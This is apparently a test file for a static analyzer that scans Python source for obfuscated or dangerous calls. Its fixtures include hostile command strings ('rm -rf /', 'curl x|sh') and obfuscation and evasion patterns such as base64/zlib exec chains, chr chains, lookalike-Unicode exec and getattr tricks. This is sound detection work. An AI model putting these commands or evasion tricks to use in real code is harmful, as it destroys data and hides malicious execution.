import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { CallFact, ConstructKind, SourceFacts } from '../types.ts';
import { analyzePythonSource, analyzePythonSourceDetailed, initPythonParser } from './analyze.ts';

before(async () => {
  await initPythonParser();
});

function facts(source: string | Buffer): SourceFacts {
  return analyzePythonSource('pkg/mod.py', typeof source === 'string' ? Buffer.from(source) : source);
}

function callAt(result: SourceFacts, line: number, callee?: string): CallFact {
  const found = result.calls.find((c) => c.line === line && (callee === undefined || c.callee === callee));
  assert.ok(
    found,
    `no call${callee ? ` to ${callee}` : ''} on line ${line}: ${JSON.stringify(result.calls)}`,
  );
  return found;
}

function calleesOn(result: SourceFacts, line: number): string[] {
  return result.calls.filter((c) => c.line === line).map((c) => c.callee);
}

/** base64 of deterministic pseudo-random bytes: what an embedded payload looks like. */
function randomBase64(bytes: number): string {
  const buf = Buffer.alloc(bytes);
  let x = 12345;
  for (let i = 0; i < bytes; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    buf[i] = x >>> 24;
  }
  return buf.toString('base64');
}

function kinds(result: SourceFacts): ConstructKind[] {
  return result.constructs.map((c) => c.kind);
}

describe('imports', () => {
  it('reads plain, aliased, from, relative and star imports', () => {
    const r = facts(
      [
        'import os.path as p, sys',
        'from ..pkg.sub import a as b, c',
        'from . import x',
        'from subprocess import *',
      ].join('\n'),
    );
    assert.deepEqual(
      r.imports.map((i) => [i.line, i.module, i.member, i.alias, i.dynamic]),
      [
        [1, 'os.path', undefined, 'p', false],
        [1, 'sys', undefined, undefined, false],
        [2, '..pkg.sub', 'a', 'b', false],
        [2, '..pkg.sub', 'c', undefined, false],
        [3, '.', 'x', undefined, false],
        [4, 'subprocess', '*', undefined, false],
      ],
    );
    assert.equal(r.imports[0]!.snippet, 'import os.path as p, sys');
  });

  it('records __import__ and importlib.import_module as dynamic, with folded names', () => {
    const r = facts(
      ["m = __import__('o' + 's')", 'import importlib', "importlib.import_module('sub' + 'process')"].join(
        '\n',
      ),
    );
    const dynamic = r.imports.filter((i) => i.dynamic);
    assert.deepEqual(
      dynamic.map((i) => [i.line, i.module]),
      [
        [1, 'os'],
        [3, 'subprocess'],
      ],
    );
  });
});

describe('call resolution', () => {
  it('resolves module aliases and from-imports with aliases', () => {
    const r = facts(['import os as o', 'from os import system as s', 'o.system(x)', 's(x)'].join('\n'));
    assert.equal(callAt(r, 3).callee, 'os.system');
    assert.equal(callAt(r, 3).resolved, true);
    assert.equal(callAt(r, 4).callee, 'os.system');
  });

  it('names builtins unless they are shadowed', () => {
    const r = facts(
      [
        'exec(code)',
        'eval(e)',
        'compile(s, "f", "exec")',
        'open(p)',
        'def exec(x):',
        '    pass',
        'exec(code)',
      ].join('\n'),
    );
    assert.equal(callAt(r, 1).callee, 'builtins.exec');
    assert.equal(callAt(r, 2).callee, 'builtins.eval');
    assert.equal(callAt(r, 3).callee, 'builtins.compile');
    assert.equal(callAt(r, 4).callee, 'builtins.open');
    assert.equal(callAt(r, 7).callee, 'exec');
    assert.equal(callAt(r, 7).resolved, false);
  });

  it('treats a parameter of the same name as a shadow inside the function only', () => {
    const r = facts(['def f(eval):', '    eval(1)', 'eval(2)'].join('\n'));
    assert.equal(callAt(r, 2).callee, 'eval');
    assert.equal(callAt(r, 3).callee, 'builtins.eval');
  });

  it('resolves getattr with a folded attribute name', () => {
    const r = facts(['import os', "getattr(os, 'sys' + 'tem')('id')"].join('\n'));
    assert.ok(calleesOn(r, 2).includes('os.system'), JSON.stringify(calleesOn(r, 2)));
    assert.ok(calleesOn(r, 2).includes('builtins.getattr'));
  });

  it('resolves __import__(...).attr and importlib.import_module(...).attr', () => {
    const r = facts(
      ["__import__('os').system(x)", 'import importlib', "importlib.import_module('o' + 's').popen(x)"].join(
        '\n',
      ),
    );
    assert.ok(calleesOn(r, 1).includes('os.system'));
    assert.ok(calleesOn(r, 3).includes('os.popen'));
  });

  it('follows simple variable aliases at module and function level', () => {
    const r = facts(
      [
        'import os, pathlib',
        'r = os.remove',
        'r(p)',
        'def f():',
        '    k = os.system',
        '    k(cmd)',
        'k(cmd)',
      ].join('\n'),
    );
    assert.equal(callAt(r, 3).callee, 'os.remove');
    assert.equal(callAt(r, 6).callee, 'os.system');
    assert.equal(callAt(r, 6).scope, 'function');
    // The function's local does not leak to module level.
    assert.equal(callAt(r, 7).callee, 'k');
  });

  it('follows instances of known classes: pathlib.Path and subprocess.Popen', () => {
    const r = facts(
      [
        'import pathlib, subprocess',
        'from pathlib import Path',
        'p = pathlib.Path(x)',
        'p.rename(y)',
        "Path(x).write_text('data')",
        'q = subprocess.Popen(cmd)',
        'q.communicate()',
        'Path.home().joinpath("a").unlink()',
      ].join('\n'),
    );
    assert.equal(callAt(r, 4).callee, 'pathlib.Path.rename');
    assert.ok(calleesOn(r, 5).includes('pathlib.Path.write_text'));
    assert.ok(calleesOn(r, 5).includes('pathlib.Path'));
    assert.equal(callAt(r, 7).callee, 'subprocess.Popen.communicate');
    assert.ok(calleesOn(r, 8).includes('pathlib.Path.unlink'), JSON.stringify(calleesOn(r, 8)));
  });

  it('names methods on unknown receivers *.name', () => {
    const r = facts(['f.rename(a, b)', "','.join(parts)", 'self.run()'].join('\n'));
    assert.equal(callAt(r, 1).callee, '*.rename');
    assert.equal(callAt(r, 1).resolved, false);
    assert.equal(callAt(r, 1).snippet, 'f.rename(a, b)');
    assert.equal(callAt(r, 2).callee, '*.join');
    assert.equal(callAt(r, 3).callee, '*.run');
  });

  it('resolves lookups through globals(), vars() and sys.modules', () => {
    const r = facts(
      [
        'import sys, builtins',
        "globals()['__builtins__']",
        "vars(builtins)['exec'](c)",
        "sys.modules['os'].system(c)",
      ].join('\n'),
    );
    assert.ok(calleesOn(r, 3).includes('builtins.exec'), JSON.stringify(calleesOn(r, 3)));
    assert.ok(calleesOn(r, 4).includes('os.system'), JSON.stringify(calleesOn(r, 4)));
  });

  it('labels scope: module, function, class', () => {
    const r = facts(
      [
        'setup(name="x")',
        'class A:',
        '    register(1)',
        '    def m(self, d=default()):',
        '        go()',
      ].join('\n'),
    );
    assert.equal(callAt(r, 1).scope, 'module');
    assert.equal(callAt(r, 3).scope, 'class');
    // Default values run when the def runs, in the enclosing scope.
    assert.equal(callAt(r, 4).scope, 'class');
    assert.equal(callAt(r, 5).scope, 'function');
  });
});

describe('text fast paths agree with the tree', () => {
  it('gives the same call facts for odd layouts (comments, continuations, nesting)', () => {
    const plain = facts("import os as o\no.system('id', shell=True)\n");
    const odd = facts("import os as o\no . system(  # run it\n    'id',\n    shell=True,\n)\n");
    const strip = (c: CallFact) => ({
      callee: c.callee,
      resolved: c.resolved,
      args: c.args,
      keywords: c.keywords,
    });
    assert.deepEqual(odd.calls.map(strip), plain.calls.map(strip));
  });

  it('does not take the inner call of a chain for the outer one', () => {
    const r = facts('import subprocess\nsubprocess.Popen(cmd).wait()\nopen(p).read()\n');
    assert.deepEqual(calleesOn(r, 2), ['subprocess.Popen.wait', 'subprocess.Popen']);
    assert.deepEqual(calleesOn(r, 3), ['*.read', 'builtins.open']);
  });

  it('folds names bound to strings when they are concatenated', () => {
    const r = facts(
      ["a = 'o'", "b = 's'", 'c = a + b', 'import importlib', 'importlib.import_module(c)'].join('\n'),
    );
    assert.deepEqual(
      r.imports.filter((i) => i.dynamic).map((i) => i.module),
      ['os'],
    );
  });
});

describe('argument values', () => {
  it('folds strings, chr chains and joins, keeps decoder calls as calls', () => {
    const r = facts(
      [
        'import os, base64',
        "os.system('o' + 's', flag=True, n=3, none=None)",
        "os.system(''.join(['a', 'b']))",
        'os.system(chr(111) + chr(115))',
        "os.system(base64.b64decode('aWQ='))",
        "os.system(b'\\x41B', 'caf\\u00e9')",
        "os.system('dmc'[::-1])",
      ].join('\n'),
    );
    const first = callAt(r, 2, 'os.system');
    assert.deepEqual(first.args, [{ kind: 'expr', text: "'o' + 's'", folded: 'os' }]);
    assert.deepEqual(first.keywords, [
      { name: 'flag', value: { kind: 'bool', value: true } },
      { name: 'n', value: { kind: 'number', value: 3 } },
      { name: 'none', value: { kind: 'none' } },
    ]);
    assert.deepEqual(callAt(r, 3, 'os.system').args, [
      { kind: 'expr', text: "''.join(['a', 'b'])", folded: 'ab' },
    ]);
    assert.deepEqual(callAt(r, 4, 'os.system').args[0], {
      kind: 'expr',
      text: 'chr(111) + chr(115)',
      folded: 'os',
    });
    assert.deepEqual(callAt(r, 5, 'os.system').args[0], {
      kind: 'call',
      callee: 'base64.b64decode',
      text: "base64.b64decode('aWQ=')",
    });
    assert.deepEqual(callAt(r, 6, 'os.system').args, [
      { kind: 'bytes', value: 'AB' },
      { kind: 'string', value: 'café' },
    ]);
    assert.equal((callAt(r, 7, 'os.system').args[0] as { folded?: string }).folded, 'cmd');
  });

  it('gives names as refs resolved through imports, and known constants folded', () => {
    const r = facts(['import os', "cmd = 'rm -rf /'", 'os.system(cmd)', 'print(os.environ)'].join('\n'));
    assert.deepEqual(callAt(r, 3).args, [{ kind: 'expr', text: 'cmd', folded: 'rm -rf /' }]);
    assert.deepEqual(callAt(r, 4).args, [{ kind: 'ref', name: 'os.environ' }]);
  });
});

describe('strings', () => {
  it('keeps every literal with decoded escapes, joins adjacent literals, flags docstrings', () => {
    const r = facts(
      [
        '"""Module doc."""',
        "x = 'a\\tb' 'c'",
        "y = r'\\d+'",
        'def f():',
        "    '''doc'''",
        '    return 1',
      ].join('\n'),
    );
    assert.deepEqual(
      r.strings.map((s) => [s.line, s.value, s.docstring]),
      [
        [1, 'Module doc.', true],
        [2, 'a\tbc', false],
        [3, '\\d+', false],
        [5, 'doc', true],
      ],
    );
  });
});

describe('constructs', () => {
  it('finds each construct kind on its line', () => {
    const blob = randomBase64(600);
    const r = facts(
      [
        "a = 'x' + b", // 1 string-concat
        "a += 'y'", // 2 string-augmented-concat
        "c = f'{a}!'", // 3 fstring
        "d = 'v=%s' % a", // 4 percent-format
        "e = '-'.join(items)", // 5 str-join
        'g = chr(101) + chr(118) + chr(97) + chr(108)', // 6 chr-chain
        `h = '${blob}'`, // 7 high-entropy-string (base64 blob)
        'import marshal, zlib, base64', // 8
        "exec(marshal.loads(zlib.decompress(base64.b64decode(b'eJw='))))", // 9 exec-chain
        `z = 1 + ${'1 + '.repeat(300)}1`, // 10 long-line
      ].join('\n'),
    );
    const byLine = (line: number) => r.constructs.filter((c) => c.line === line).map((c) => c.kind);
    assert.deepEqual(byLine(1), ['string-concat']);
    assert.deepEqual(byLine(2), ['string-augmented-concat']);
    assert.deepEqual(byLine(3), ['fstring']);
    assert.deepEqual(byLine(4), ['percent-format']);
    assert.deepEqual(byLine(5), ['str-join']);
    assert.deepEqual(byLine(6), ['chr-chain']);
    assert.equal(r.constructs.find((c) => c.line === 6)?.detail, 'eval');
    assert.equal(r.constructs.find((c) => c.line === 6)?.size, 4);
    assert.deepEqual(byLine(7), ['high-entropy-string']);
    assert.deepEqual(byLine(9), ['exec-chain']);
    assert.equal(
      r.constructs.find((c) => c.line === 9)?.detail,
      'marshal.loads <- zlib.decompress <- base64.b64decode',
    );
    assert.deepEqual(byLine(10), ['long-line']);
  });

  it('reports one string-concat per chain, not one per operator', () => {
    const r = facts("x = 'a' + b + 'c' + d + 'e'");
    assert.deepEqual(kinds(r), ['string-concat']);
  });

  it('finds chr chains in joins of generators and map()', () => {
    const r = facts(
      ["s = ''.join(chr(c) for c in [101, 118, 97, 108])", "t = ''.join(map(chr, [111, 115, 32]))"].join(
        '\n',
      ),
    );
    const chains = r.constructs.filter((c) => c.kind === 'chr-chain');
    assert.deepEqual(
      chains.map((c) => [c.line, c.detail, c.size]),
      [
        [1, 'eval', 4],
        [2, 'os ', 3],
      ],
    );
  });

  it("counts the chr() calls of every chain, short ones too: the threshold is the behavior's", () => {
    const r = facts("a = chr(104) + chr(105)\nb = 'x' + chr(33)\n");
    const chains = r.constructs.filter((c) => c.kind === 'chr-chain');
    assert.deepEqual(
      chains.map((c) => [c.line, c.size]),
      [
        [1, 2],
        [2, 1],
      ],
    );
  });

  it('finds pyarmor markers and the call chain of compressed exec one-liners, not Cython', () => {
    const armored = facts(
      'from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b"x")',
    );
    assert.ok(armored.constructs.some((c) => c.kind === 'packer-stub' && c.detail?.startsWith('pyarmor')));
    const oneLiner = facts(
      "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))",
    );
    assert.ok(
      oneLiner.constructs.some(
        (c) => c.kind === 'exec-chain' && c.detail === 'zlib.decompress <- base64.b64decode',
      ),
    );
    const cython = facts(
      '# cython: language_level=3\nimport cython\n@cython.boundscheck(False)\ndef f(): pass',
    );
    assert.ok(!cython.constructs.some((c) => c.kind === 'packer-stub'));
  });

  it('does not flag ordinary prose as high entropy', () => {
    const prose = 'The quick brown fox jumps over the lazy dog and keeps running. '.repeat(10);
    const r = facts(`x = '${prose}'`);
    assert.ok(!kinds(r).includes('high-entropy-string'));
  });
});

describe('decoding and old syntax', () => {
  it('honours a latin-1 coding cookie', () => {
    const bytes = Buffer.concat([
      Buffer.from('# -*- coding: latin-1 -*-\nname = "'),
      Buffer.from([0x63, 0x61, 0x66, 0xe9]),
      Buffer.from('"\n'),
    ]);
    const r = facts(bytes);
    assert.equal(r.strings[0]?.value, 'café');
  });

  it('honours a gbk cookie on line 2', () => {
    const bytes = Buffer.concat([
      Buffer.from('#!/usr/bin/env python\n# coding=gbk\ns = "'),
      Buffer.from([0xd6, 0xd0, 0xce, 0xc4]),
      Buffer.from('"\n'),
    ]);
    assert.equal(facts(bytes).strings[0]?.value, '中文');
  });

  it('skips a UTF-8 BOM', () => {
    const r = facts(
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('import os\nos.system("x")')]),
    );
    assert.equal(callAt(r, 2).callee, 'os.system');
    assert.equal(callAt(r, 2).column, 1);
  });

  it('reads Python 2 print and exec statements', () => {
    const r = facts(['print "hello"', 'exec "import os" in ns', 'exec code'].join('\n'));
    assert.equal(r.partial, false);
    assert.equal(callAt(r, 1).callee, 'builtins.print');
    assert.deepEqual(callAt(r, 2).args, [{ kind: 'string', value: 'import os' }]);
    assert.equal(callAt(r, 2).callee, 'builtins.exec');
    assert.equal(callAt(r, 3).callee, 'builtins.exec');
  });
});

describe('robustness', () => {
  it('keeps the facts before a truncation and marks the result partial', () => {
    const r = analyzePythonSourceDetailed(
      't.py',
      Buffer.from('import os\nos.system("a")\ndef f(:\n    os.remove('),
    );
    assert.equal(r.facts.partial, true);
    assert.equal(callAt(r.facts, 2).callee, 'os.system');
    assert.ok(r.problems.some((p) => p.kind === 'parse-error' && p.line !== undefined));
  });

  it('reads code after NUL bytes', () => {
    const r = facts(Buffer.from('x = 1\0\0\nimport os\nos.system("id")\n'));
    assert.equal(callAt(r, 3).callee, 'os.system');
  });

  it('survives garbage bytes', () => {
    const garbage = Buffer.alloc(20_000);
    for (let i = 0; i < garbage.length; i++) garbage[i] = (i * 7919 + 13) % 256;
    const r = facts(garbage);
    assert.equal(r.language, 'python');
    assert.equal(r.partial, true);
  });

  it('does not crash on 5000 nested parentheses', () => {
    const r = facts(`x = ${'('.repeat(5000)}'a' + 'b'${')'.repeat(5000)}\nimport os\nos.system(x)\n`);
    assert.equal(callAt(r, 3).callee, 'os.system');
  });

  it('folds a chr() chain of 2000 terms without recursion', () => {
    const chain = Array.from({ length: 2000 }, () => 'chr(97)').join(' + ');
    const r = facts(`x = ${chain}\n`);
    const found = r.constructs.find((c) => c.kind === 'chr-chain');
    assert.ok(found);
    assert.equal(found.detail, `${'a'.repeat(200)}…`);
  });

  it('reads a 5 MB single-line file whole', () => {
    const line = `import base64;exec(base64.b64decode('${randomBase64(3_750_000)}'))`;
    const r = analyzePythonSourceDetailed('big.py', Buffer.from(line));
    assert.ok(r.facts.constructs.some((c) => c.kind === 'long-line' && c.detail === `length=${line.length}`));
    assert.ok(r.facts.constructs.some((c) => c.kind === 'high-entropy-string'));
    assert.ok(r.facts.strings[0]!.value.length <= 64 * 1024);
  });

  it('gives up on a pathological 5 MB expression at the work budget, keeping a prefix and naming the rest', () => {
    const line = `import os\nos.system('a')\nx = ${'a+'.repeat(2_500_000)}a\n`;
    const run = () =>
      analyzePythonSourceDetailed('slow.py', Buffer.from(line), { work: { parseSteps: 2000 } });
    const r = run();
    assert.equal(r.facts.partial, true);
    const problem = r.problems.find((p) => p.kind === 'timeout');
    assert.match(problem?.message ?? '', /bytes \d+-5000031 were not parsed/);
    assert.equal(callAt(r.facts, 2).callee, 'os.system');
    // Work, not time: a second run stops at the same place with the same facts.
    assert.deepEqual(run(), r);
  });

  it('parses code after 9 MB of comment padding', () => {
    const padding = `# ${'p'.repeat(60)}\n`.repeat(150_000);
    const r = analyzePythonSourceDetailed(
      'pad.py',
      Buffer.from(`${padding}import os\nos.system('curl x|sh')\n`),
    );
    assert.deepEqual(r.problems, []);
    assert.equal(callAt(r.facts, 150_002).callee, 'os.system');
  });

  it('truncates files above maxBytes and says so', () => {
    const r = analyzePythonSourceDetailed('t.py', Buffer.from('import os\nos.system(1)\nimport sys\n'), {
      maxBytes: 22,
    });
    assert.equal(r.facts.partial, true);
    assert.deepEqual(
      r.facts.imports.map((i) => i.module),
      ['os'],
    );
    assert.ok(r.problems.some((p) => p.kind === 'too-large'));
  });
});

describe('identifier and callee evasion', () => {
  it('reads identifiers through NFKC, as Python does', () => {
    const calls = facts("import base64\n𝚎𝚡𝚎𝚌(base64.b64decode('cHJpbnQoMSk='))\n").calls.map((c) => c.callee);
    assert.ok(calls.includes('builtins.exec'));
  });

  it('sees exec through __call__, __getattribute__ and vars(__builtins__)', () => {
    const calls = facts(
      [
        'code = input()',
        'exec.__call__(code)',
        "__builtins__.__getattribute__('exec')(code)",
        "vars(__builtins__)['exec'](code)",
        'obj.__call__(code)',
      ].join('\n'),
    ).calls.map((c) => `${c.line}:${c.callee}`);
    for (const line of [2, 3, 4])
      assert.ok(calls.includes(`${line}:builtins.exec`), `line ${line}: ${calls}`);
    assert.ok(!calls.includes('5:builtins.exec'));
  });
});
